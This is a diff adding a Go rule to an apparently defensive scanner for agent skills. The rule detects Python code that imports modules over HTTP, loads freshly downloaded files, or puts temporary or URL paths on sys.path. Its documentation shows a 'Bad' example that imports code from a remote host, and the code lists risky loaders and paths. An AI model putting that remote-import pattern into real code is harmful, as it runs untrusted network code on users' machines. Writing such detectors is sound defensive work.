@@ -1,0 +1,94 @@
+package rules
+
+import (
+	"strings"
+
+	"github.com/skillvet/skillvet/analyzer"
+)
+
+// PythonRemoteImport reports Python code that imports modules from the
+// network or from paths it just downloaded.
+var PythonRemoteImport = register(&analyzer.Rule{
+	ID:       "SV157",
+	Name:     "python-remote-import",
+	Title:    "Python imports code from the network or a temporary directory",
+	Severity: High,
+	Category: analyzer.CatRemoteExec,
+	Tags:     []string{"security", "python", "CWE-829", "CWE-494"},
+	Inputs:   analyzer.InPython,
+	Doc: `Python code makes the import system load code that is not in the skill:
+
+- ` + "`httpimport`" + ` (` + "`add_remote_repo`" + `, ` + "`remote_repo`" + `, ` + "`github_repo`" + `, ` + "`load`" + `) — **critical**;
+- ` + "`importlib.util.spec_from_file_location`" + ` / ` + "`SourceFileLoader`" + ` / ` + "`zipimport.zipimporter`" + ` /
+  ` + "`runpy.run_path`" + ` on a file downloaded in the same file — **critical**;
+- ` + "`sys.path`" + ` pointed at ` + "`/tmp`" + `, ` + "`/dev/shm`" + `, a hidden directory or a URL — **high**: whatever is
+  placed there next shadows real modules.
+
+**Fix:** ship the module in the skill, or depend on a pinned package.
+
+Bad:
+
+` + "```python" + `
+import httpimport
+with httpimport.remote_repo("http://203.0.113.8/pkgs/"):
+    import agent
+` + "```" + `
+
+Good:
+
+` + "```python" + `
+import sys, pathlib
+sys.path.insert(0, str(pathlib.Path(__file__).parent / "lib"))
+` + "```",
+	Run: runPythonRemoteImport,
+})
+
+func runPythonRemoteImport(p *analyzer.Pass) error {
+	m := pyModule(p)
+	if m == nil {
+		return nil
+	}
+	files := pyDownloadedFiles(m)
+	for _, c := range m.Calls {
+		start, end := m.Span(c)
+		switch {
+		case strings.HasPrefix(c.Name, "httpimport."):
+			pyReport(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
+				Message: "imports modules over HTTP (" + c.Name + ")"})
+		case hasPrefixAny(c.Name, "importlib.util.spec_from_file_location", "importlib.machinery.SourceFileLoader",
+			"importlib.machinery.SourcelessFileLoader", "zipimport.zipimporter", "runpy.run_path", "imp.load_source",
+			"imp.load_compiled"):
+			lo, hi := c.Open+1, c.Close
+			for _, f := range files {
+				if pyMentions(m, lo, hi, "", f.keys) {
+					pyReport(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
+						Message: "loads a module from a file downloaded at line " + lineOf(m, f.call.Head) + pyFrom(f.url)})
+					break
+				}
+			}
+		case c.Name == "sys.path.insert" || c.Name == "sys.path.append" || c.Name == "site.addsitedir":
+			n := 1
+			if c.Name != "sys.path.insert" {
+				n = 0
+			}
+			a, ok := c.Positional(n)
+			if !ok {
+				continue
+			}
+			for _, pt := range pyPathOf(m, a.Start, a.End, 1) {
+				if pyRiskyImportPath(pt) {
+					pyReport(p, m, analyzer.Diagnostic{Start: start, End: end,
+						Message: "adds " + clipStr(pt, 60) + " to the module search path"})
+					break
+				}
+			}
+		}
+	}
+	return nil
+}
+
+func pyRiskyImportPath(pt string) bool {
+	return strings.HasPrefix(pt, "/tmp") || strings.HasPrefix(pt, "/var/tmp") || strings.HasPrefix(pt, "/dev/shm") ||
+		strings.Contains(pt, "://") || strings.HasPrefix(pt, "~/.") && !strings.HasPrefix(pt, "~/.local/lib") ||
+		strings.Contains(strings.ToLower(pt), "/appdata/local/temp")
+}
